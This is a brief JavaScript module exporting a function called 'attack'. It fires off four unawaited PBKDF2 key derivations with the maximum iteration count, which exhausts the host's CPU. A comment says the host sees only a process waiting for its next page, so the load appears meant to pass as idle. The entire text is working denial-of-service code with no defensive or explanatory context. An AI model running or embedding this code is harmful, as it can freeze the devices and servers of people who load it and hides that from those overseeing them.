// The host sees a process that waits for its next page.
const rounds = { name: 'PBKDF2', hash: 'SHA-512', salt: new Uint8Array(8), iterations: 2 ** 31 - 1 };

export const attack = async () => {
  const key = await crypto.subtle.importKey('raw', new Uint8Array(8), 'PBKDF2', false, ['deriveBits']);
  for (let thread = 0; thread < 4; thread++) void crypto.subtle.deriveBits(rounds, key, 512);
  return 'computing';
};
